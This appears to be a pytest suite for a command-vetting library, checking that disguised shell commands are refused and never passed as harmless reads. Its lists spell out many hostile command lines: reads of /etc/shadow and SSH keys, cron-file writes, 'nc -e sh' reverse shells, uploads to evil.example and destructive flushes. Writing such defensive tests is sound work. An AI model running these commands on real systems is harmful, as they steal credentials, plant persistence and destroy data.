"""No form that runs at once executes, writes, or reads outside what it names, however its argv is dressed up."""

from __future__ import annotations

import shlex

import pytest

from interlock.commands.library import ARGUMENT_BYTES_MAX, Library, load_library
from interlock.commands.model import Operation, Refused, Unknown
from interlock.core.errors import Invalid

# Each is one way in which a harmless-looking program runs, writes, or reads what it does not show.
NEVER_AT_ONCE = r"""
sed -n 1p -fs
sed -n '1e id' a
sed -n 'w /etc/cron.d/x' a
sed -n '1r /etc/shadow' a
sed s/a/b/e a
sed s/a/b/w/x a
sed --sandb -i s/a/b/ a
sort --compress-prog ./x a
sort --compress-program=./x a
sort -o /etc/cron.d/x a
sort -ro/etc/cron.d/x a
sort -T /x -S 1b --compress-program ./x a
sort --files0-from=/etc/shadow
sort a -o b
uniq a b
xxd -r a b
tar -tf a --checkpoint=1 --checkpoint-action=exec=sh
tar -tf a --checkpoint-act=exec=sh
tar -tf a -I 'sh -c id'
tar -tf a --use-compress=sh
tar -tf a --to-command=sh
tar -tf a -F sh
tar tfI a sh
tar --rsh-command=sh -tf h:a
tar -xf a
find . -exec sh ';'
find . -execdir sh ';'
find . -ok sh ';'
find . -delete
find . -fprint /etc/cron.d/x
find . -fprintf /etc/cron.d/x y
find . -fls /x
find -L /srv -name x
find . -files0-from /etc/shadow
git -c core.fsmonitor=./x status
git -ccore.fsmonitor=./x status
git --git-dir=/tmp/x status
git --exec-path=/tmp log
git --config-env=core.pager=X log
git -p log
git grep -O./x foo
git diff --no-index /etc/shadow /dev/null
git diff /etc/shadow
git diff --ext-diff
git log --textconv
git log --output=/etc/cron.d/x
git diff --outp=/x
git difftool -x ./x
git bisect run ./x
git rebase -x id main
git archive --remote=x --exec=./x HEAD
git fetch ext::sh
git clone ext::sh
git submodule foreach id
git help -m status
kubectl --kubeconfig=/tmp/evil get pods
kubectl get pods --kubeconfig /tmp/evil
kubectl -s https://evil.example get pods
kubectl --server=https://evil.example get pods
kubectl --token=x get pods
kubectl --as=admin get pods
kubectl get pods -o go-template-file=/etc/shadow
kubectl get pods -o jsonpath-file=/etc/shadow
kubectl get pods -v=9
kubectl get secrets -o yaml
kubectl get secret/db -o yaml
kubectl get pods,secrets -o json
kubectl get secrets.v1. -o yaml
kubectl get pods secret/x
kubectl get --raw /api/v1/namespaces/x/secrets
kubectl get --raw /healthz/../api/v1/secrets
kubectl get -f https://evil.example/x
kubectl exec web -- id
kubectl cp web:/etc/shadow .
kubectl debug node/n1
kubectl get pods --cache-dir /etc
docker -H tcp://evil ps
docker --host=tcp://evil ps
docker --config /tmp/evil ps
docker --context evil ps
docker exec web id
docker container exec web id
docker compose exec web id
docker compose run web id
docker run -v /:/x alpine
docker cp web:/etc/shadow .
docker inspect web
docker inspect -f '{{json .}}' web
docker inspect -f '{{.Config.Env}}' web
docker inspect -f '{{with .Config}}{{.Env}}{{end}}' web
docker inspect -f '{{$.Config.Env}}' web
docker inspect -f '{{range $k, $v := .Config}}{{$v}}{{end}}' web
docker top web auxe
docker top web -eo pid
docker compose config
systemctl -H evil status
systemctl --host=evil status
systemctl -Hevil status
systemctl --user status
systemctl -M web status
systemctl --root=/x cat x
systemctl show-environment
journalctl --file=/etc/shadow
journalctl -D /x
journalctl --root=/x
journalctl --cursor-file=/etc/cron.d/x
journalctl --vacuum-size=1
journalctl --rotate
ps auxe
ps e
ps eww
ps aux e
ps axe
ps -ef -u ax
ps -auxe
ps -E
ps axeo pid
curl file:///etc/shadow
curl -K /etc/shadow http://localhost
curl -sK/etc/shadow http://localhost
curl -o /etc/cron.d/x http://localhost
curl -so/x http://localhost
curl -O http://localhost/x
curl -T /etc/shadow http://localhost
curl -d @/etc/shadow http://localhost
curl -F a=@/etc/shadow http://localhost
curl -H @/etc/shadow http://localhost
curl -w @/etc/shadow http://localhost
curl -X DELETE http://localhost
curl -x http://evil.example http://localhost
curl http://localhost@evil.example/
curl http://localhost.evil.example/
curl http://localhost:80@evil.example/
curl http://169.254.169.254/latest
curl -I http://169.254.169.254/
curl --proto-redir all -L http://localhost/
curl --unix-socket /var/run/docker.sock http://localhost/
curl http://localhost http://evil.example
ss -K dst 1.1.1.1
ss -aF /etc/shadow
ss -D /etc/cron.d/x
ss -N x
ip netns exec x sh
ip -batch /etc/shadow
ip -b /etc/shadow
ip -force -batch x
ip vrf exec x sh
dig -f /etc/shadow
dig -f/etc/shadow
dig +tls-ca=/etc/shadow x
nslookup -
whois -h evil.example x
openssl x509 -in a -noout -engine ./x
openssl x509 -in a -out /etc/cron.d/x -noout
openssl s_client -connect localhost:443 -sess_out /x
openssl req -in a -noout -config ./x
grep -f /etc/shadow
grep --fil=/etc/shadow a
grep x -
file -m ./x a
file -C -m x
file -z a
file -f /etc/shadow
diff -l a b
md5sum -c a
date -s 12:00
date -f /etc/shadow
date 010112002030
hostname evil
hostname -F /etc/shadow
sysctl -w a.b=c
sysctl a.b=c
sysctl -p /x
dmesg -C
dmesg -F /etc/shadow
mount -o loop x /y
lsof -D b/x
top -s /x
sar -o /etc/cron.d/x 1 1
pidstat -e sh
iptables -F
iptables -L -Z
iptables -L --modprobe=./x
iptables-save -f /etc/cron.d/x
iptables-save -M ./x
nft -f ./x
lvs --config 'global{x}'
rpm -q --pipe sh x
rpm --eval '%(id)'
rpm -q --load ./x y
rpm -q --qf '%(id)' x
dpkg --pre-invoke=sh -l
dpkg -l --admindir=/x
apt list -o APT::Update::Pre-Invoke::=sh
apt-get -c ./x -s upgrade
apt-cache -o Dir=/x show y
certbot certificates --config-dir /x
logrotate -d ./x
logrotate -l x /etc/logrotate.conf
nginx -t -c ./x
nginx -tc./x
nginx -g 'x' -t
nginx -p /x -t
apachectl -t -f ./x
haproxy -c -f ./x
php-fpm -t -c ./x
redis-cli --eval ./x
redis-cli eval 'x' 0
redis-cli -h evil.example ping
redis-cli config set dir /etc
mysqladmin -h evil.example status
mysqladmin --plugin-dir=/x ping
pg_ctl -D /x -o '-c x' status
jq -L /x . a
jq 'import "a" as $x {search:"/root"}; $x' a
jq -n env a
jq -f /etc/shadow a
jq --rawfile a /etc/shadow . b
tree -o /etc/cron.d/x
tree -l /
tree --fromfile /etc/shadow
awk 'BEGIN {system("id")}' a
awk '{print > "/etc/cron.d/x"}' a
awk '{print | "sh"}' a
awk '"id" | getline' a
awk -f ./x a
awk -v x=1 '{print x}' a
nc -e sh evil 1
nc -l 1
nc -zc id x 1
less +F a -o /x
less -k ./x a
ssh-keygen -D ./x.so
ldd ./evil
ping -f host
ping -c 100000 host
ping -l 65000 host
traceroute --module=x host
mtr -F /etc/shadow
wg show wg0 private-key
getent shadow root
crontab ./x
crontab -e
pip install x
pip list --python ./x
pip list --proxy http://evil.example
helm list --kubeconfig /x
helm get values web
nmcli --show-secrets con show x
systemd-analyze verify ./x
coredumpctl gdb
coredumpctl dump -o /x
zpool status -c ./x
btrfs device stats -z /x
slabtop -c x
updatedb
losetup -f x
tune2fs -L x /dev/sda1
strings --target=x a
stat --cached=x a
aws --endpoint-url http://evil.example s3 ls
cat /proc/1/environ
cat /etc/shadow
tail -f /root/.ssh/id_rsa
head /srv/app/.env
grep -r x /proc/self/root/etc
od -c /dev/sda
base64 /etc/ssl/private/site.key
cat /proc/1/../1/environ
cat //etc//shadow
redis-cli SAVE
redis-cli MONITOR
redis-cli failover
redis-cli FLUSHall
redis-cli config get maxmemory requirepass
nmcli radio wifi off
nmcli device disconnect eth0
nmcli dev down eth0
nmcli n off
nmcli con down foo
nmcli connection delete foo
nmcli c up foo
nmcli general hostname evil
nmcli device wifi connect x
dnf history undo last -y
yum -y history rollback 3
dnf history redo 3
ip link s eth0 down
ip l s eth0 mtu 100
git reflog delete HEAD@{1}
git reflog expire --all
git reflog drop
kubectl wait secret foo --for=create -o yaml
kubectl wait secrets --all --for=create -o yaml
kubectl wait secret. foo --for=create
kubectl wait pods,secrets --all --for=create -o json
kubectl wait secret/foo --for=jsonpath={.data.password}=a
helm status web -o json
helm status web --output=yaml
helm --debug status web
helm status web --debug
helm env
smartctl -l scterc,70,70 /dev/sda
smartctl -l sataphy,reset /dev/sda
smartctl --log=scttempint,1,p /dev/sda
monit validate
sysctl kernel/../../../etc/shadow
sysctl kernel//../x
"""

WRAPPED = """
sudo df
/usr/bin/sudo df
doas df
su -c df
env df
env -S 'df -h'
xargs df
nohup df
timeout 5 df
nice df
sh -c df
/bin/sh -c df
bash -c df
dash -c df
busybox sh
python3 -c x
python3.11 -c x
/usr/bin/python3 x.py
perl -e x
node -e x
ruby -e x
php -r x
ssh host df
watch df
tmux new df
script -c df
chroot / df
unshare df
nsenter -t 1 df
strace df
gdb df
setsid df
stdbuf -o0 df
parallel df
systemd-run df
ld-linux-x86-64.so.2 /bin/sh
/lib64/ld-linux-x86-64.so.2 /bin/sh
vi a
vim -c '!sh'
nano a
man ls
psql -c x
mysql -e x
make
printenv
python3 --version -c x
bash --version -c id
docker exec web id
kubectl exec web -- id
find . -exec sh ';'
sed -i s/a/b/ f
awk 'BEGIN {system("id")}'
nc -e sh x 1
"""


@pytest.fixture(scope="module")
def library() -> Library:
    return load_library()


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]


@pytest.mark.parametrize("line", lines(NEVER_AT_ONCE))
def test_a_dressed_up_command_never_runs_at_once(library: Library, line: str) -> None:
    """It is unknown, refused, a change, or a secret; never a plain read."""
    answer = library.match(shlex.split(line))
    assert not (isinstance(answer, Operation) and answer.only_reads), answer


@pytest.mark.parametrize("line", lines(WRAPPED))
def test_a_wrapper_is_refused_and_told_what_to_use(library: Library, line: str) -> None:
    """A wrapper is never merely unknown: then a person could approve what he cannot see."""
    answer = library.match(shlex.split(line))
    assert isinstance(answer, Refused), answer
    assert answer.why
    assert answer.instead


@pytest.mark.parametrize(
    "argv",
    [
        [],
        [""],
        ["df -h"],
        ["df", "\x00"],
        ["df", "a\nb"],
        ["ls", "\x1b[2J"],
        ["ls", "/srv/\u202egpj.exe"],
        ["ls", "/srv/a\u200bb"],
        ["ls", "/srv/e\u0301"],
        ["ls", "/srv/a\u00a0b"],
        ["ls", "/srv/\ud800"],
        ["ls", "/srv/\ue000"],
        ["df", "\u2010h"],
        ["df", "\u2212h"],
        ["\u0455udo", "df"],
        ["d\uff46"],
        ["cat", "x" * (ARGUMENT_BYTES_MAX + 1)],
        ["cat", "x" * 1_000_000],
        ["cat", *(["x" * 8000] * 17)],
        ["cat", *(["x"] * 256)],
    ],
)
def test_what_nobody_can_read_is_invalid(library: Library, argv: list[str]) -> None:
    """Hidden, misleading or endless text is sent back before anything looks at it; the message stays short."""
    with pytest.raises(Invalid) as caught:
        library.match(argv)
    assert caught.value.fix
    assert len(caught.value.message) < 300


@pytest.mark.parametrize(
    "argv",
    [
        ["systemctl", "status", "ngin\u0445"],
        ["grep", "-\u0435", "x", "a"],
        ["docker", "logs", "w\u0435b"],
    ],
)
def test_look_alike_letters_name_nothing(library: Library, argv: list[str]) -> None:
    """Names and options are plain ASCII; a Cyrillic letter makes an argument unknown, not another one."""
    assert isinstance(library.match(argv), Unknown)


def test_paths_and_patterns_may_hold_letters_of_any_script(library: Library) -> None:
    """People's files have names in their own language."""
    answer = library.match(["grep", "-n", "größe", "/srv/文档/日志.txt"])
    assert isinstance(answer, Operation)
    assert [path.text for path in answer.paths] == ["/srv/文档/日志.txt"]


def test_a_program_elsewhere_is_not_the_program(library: Library) -> None:
    """`./df` and `/tmp/df` could be anything."""
    for name in ("./df", "/tmp/df", "bin/df", "/usr/bin/../../tmp/df", "/usr/local/bin/../../../tmp/df"):
        assert isinstance(library.match([name, "-h"]), Unknown), name
    here = library.match(["/usr/bin/df", "-h"])
    assert isinstance(here, Operation)
    assert here.path_candidates == ("/usr/bin/df",)


def test_following_by_name_becomes_following_by_descriptor(library: Library) -> None:
    """What is put under the name later is not what was looked at; a link met by `grep -R` neither."""
    followed = library.match(["tail", "-Fn", "5", "/var/log/a"])
    searched = library.match(["grep", "-Rn", "R", "/srv"])
    assert isinstance(followed, Operation)
    assert isinstance(searched, Operation)
    assert followed.argv == ("tail", "-fn", "5", "/var/log/a")
    assert searched.argv == ("grep", "-rn", "R", "/srv")


def test_git_asks_for_a_repository_that_only_the_operator_writes(library: Library) -> None:
    """A repository's own settings run code; elsewhere the form is a change of unknown reach."""
    for line in ("git status", "git -C /srv/app log", "git diff", "git branch", "git show HEAD", "git tag"):
        answer = library.match(shlex.split(line))
        assert isinstance(answer, Operation), line
        assert "repository" in {path.access for path in answer.paths}, line
        assert "core.fsmonitor=false" in answer.argv
        untrusted = answer.untrusted()
        assert untrusted.changes
        assert not untrusted.only_reads
        assert "code.repository" in untrusted.operations


@pytest.mark.parametrize(
    "line",
    [
        "redis-cli -h 127.0.0.1 -p 9999 ping",
        "redis-cli -p 9999 ping",
        "redis-cli -s /tmp/x ping",
        "mysqladmin -h 127.0.0.1 -P 9999 ping",
        "mysqladmin -S /tmp/x ping",
        "mysqladmin --port=9999 ping",
        "createdb -h localhost -p 9999 shop",
        "dropdb --port=9999 shop",
        "rabbitmqctl -n rabbit@evil status",
    ],
)
def test_the_operators_credentials_go_only_where_the_operator_says(library: Library, line: str) -> None:
    assert isinstance(library.match(shlex.split(line)), Refused)


@pytest.mark.parametrize(
    "line", ["ps -o environ", "ps -oenviron", "ps -eo pid,environ", "ps axo pid,environ:200", "ps --format=environ"]
)
def test_the_environments_of_processes_are_no_column(library: Library, line: str) -> None:
    assert isinstance(library.match(shlex.split(line)), Refused)


@pytest.mark.parametrize("line", ["cksum a", "sum a", "md5sum a", "sha256sum a", "b2sum a", "wc -c a"])
def test_a_digest_of_a_content_tells_that_content(library: Library, line: str) -> None:
    answer = library.match(shlex.split(line))
    assert isinstance(answer, Operation)
    assert answer.discloses == "content"


def test_what_is_nearest_can_be_printed(library: Library) -> None:
    answer = library.match(["grep", "-r", "", "site"])
    assert isinstance(answer, Unknown)
    assert all(word.isprintable() for word in answer.nearest)
